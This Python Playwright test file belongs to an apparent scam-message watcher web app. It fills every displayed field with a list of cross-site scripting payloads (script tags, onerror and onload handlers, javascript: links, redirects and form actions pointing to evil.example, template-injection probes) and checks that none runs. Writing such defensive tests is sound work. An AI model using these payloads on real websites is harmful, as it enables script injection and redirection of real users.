"""Hostile texts in every field that a page shows, in a real browser: none of them acts."""

import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime

from playwright.sync_api import expect

from tests.web.watching import Watching
from watcher.casework.proofs import claim, receive
from watcher.cli.demo import PLAYS_AT
from watcher.clock import SystemClock
from watcher.core.knowledge import Rules
from watcher.core.model import Channel, Message, Phrase, Urgency
from watcher.ingest import Ingest
from watcher.judging.here import JudgeHere
from watcher.store import Store
from watcher.userfiles.loans import read_loans
from watcher.web.start import Orders, Page

ADDRESSES = """() => [...document.querySelectorAll('[href], [src], [action]')].flatMap(
    one => ['href', 'src', 'action'].map(name => one.getAttribute(name)).filter(value => value))"""
NORMAL = Urgency.NORMAL
ACTIVE = "script, iframe, object, embed, base, svg, style, main img"
XSS = [
    "<script>document.title='owned'</script>",
    "\"><img src=//evil.example/a.png onerror=document.title='owned'>",
    "'><svg/onload=document.title='owned'>",
    "</textarea><script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "<iframe src=http://evil.example/></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y'</style>",
    "<a href=javascript:document.title='owned' autofocus onfocus=document.title='owned'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><form action=http://evil.example/><input name=csrf>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='owned'>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "\u202e<details open ontoggle=document.title='owned'>\u2066",
    "<video><source onerror=document.title='owned'></video>",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
]


def test_hostile_texts_in_every_field_stay_texts(
    watching: Callable[..., Watching], orders: Orders, rules: Rules
) -> None:
    evil = hostile(orders, rules)
    page = Page(lambda: evil)
    try:
        seen = watching()
        seen.enter(page)
        with Store.open_to_read(evil.state) as store:
            cases = [row.id for row in store.cases()]
        assert len(cases) >= len(XSS)
        for path in ["/", "/?status=<script>", "/loans", "/sources", "/rules", "/dates",
                     *(f"/cases/{case}" for case in cases), *loan_paths(seen),
                     *letter_paths(seen, cases)]:  # fmt: skip
            seen.go(path)
            assert seen.tab.title() != "owned"
            assert seen.tab.locator(ACTIVE).count() == 0
            leads = seen.tab.evaluate(ADDRESSES)
            assert leads
            assert all(re.match(r"[/#](?!/)", lead) for lead in leads), leads
        note_and_objection(seen, cases[0])
        assert (seen.outside, seen.trouble) == ([], [])
    finally:
        page.close()


def letter_paths(seen: Watching, cases: list[int]) -> list[str]:
    found: list[str] = []
    for case in cases[:2]:
        seen.go(f"/cases/{case}")
        links = seen.tab.locator(".letters a").all()
        found.extend(str(link.get_attribute("href")) for link in links)
    assert found
    return found


def loan_paths(seen: Watching) -> list[str]:
    seen.go("/loans")
    return [str(link.get_attribute("href")) for link in seen.tab.locator("a.row").all()[:6]]


def note_and_objection(seen: Watching, case: int) -> None:
    for text in ("".join(XSS[:5]), "".join(XSS[5:10])):
        seen.go(f"/cases/{case}")
        seen.tab.locator(".step").first.get_by_text(re.compile("记一笔|改这条记录")).click()
        seen.tab.locator(".step textarea").first.fill(text)
        seen.tab.locator(".step").first.get_by_role("button", name="保存").click()
        expect(seen.tab.locator(".step textarea").first).to_have_value(text)
    seen.tab.locator("#wrong-text").fill("".join(XSS[:6]))
    seen.tab.get_by_role("button", name="这个判断不对").click()
    expect(seen.tab.locator("blockquote")).to_have_text("".join(XSS[:6]))
    assert seen.tab.title() != "owned"


def hostile(orders: Orders, rules: Rules) -> Orders:
    """Put a hostile text into everything that a page shows."""
    with (orders.config / "loans.toml").open("a", encoding="utf-8") as file:
        for number, text in enumerate(XSS):
            quoted = "".join(f"\\U{ord(one):08X}" for one in text)
            file.write(
                f'\n[[loans]]\nid = "{quoted}"\nlender = "{quoted}"\nproduct = "{quoted}"\n'
                f'account_tail = "{7000 + number}"\nstatus = "settled"\nsettled_on = 2026-01-02\n'
            )
    with (orders.config / "config.toml").open("a", encoding="utf-8") as file:
        file.write(f'[[sms]]\npath = "/{XSS[0].replace(chr(34), "")}"\n')
    ledger, problems = read_loans(orders.config / "loans.toml", rules.directory)
    assert ledger is not None, problems
    messages = [
        Message(
            id=str(number),
            channel=Channel.EMAIL,
            received_at=PLAYS_AT,
            sender=text,
            subject=f"{text} 您的借款已逾期",
            text=f"【{text}】{text}您的借款（尾号{7000 + number}）逾期{number + 3}天，"
            f"应还{number + 100}.00元，请转账到安全账户并加微信。{text}",
            html=f"<p>{text}您的借款逾期，请下载会议软件共享屏幕</p>",
            headers=((text.replace("\n", ""), text),),
            source=f"imap:{text}/{text}",
            place=text,
        )
        for number, text in enumerate(XSS)
    ]
    with Store.open(orders.state, PLAYS_AT) as store:
        Ingest(judge=JudgeHere(rules, ledger), store=store, clock=SystemClock()).run(
            iter(messages), source=f"imap:{XSS[0]}/x"
        )
        now = datetime.now(UTC)  # noqa: TID251  the page's clock is real
        for number, text in enumerate(XSS):
            proof = receive(orders.state, text, [b"%PDF", text.encode()], now)
            claim(orders.state, proof, ledger.loans[-1 - number].id, now)
            store.announce(Phrase(id="daemon.folder_gone", values={"folder": text}), NORMAL, now)
        for row in store.cases():
            store.life.sent(
                row.id, XSS[0], date(2026, 7, 21), now, answer_due=True, objects_from=None
            )
        for text in XSS:
            store.checked(f"imap:heqiuhe@mail.example/{text}", now)
    return replace(orders, book=replace(orders.book, problems=tuple(XSS)))
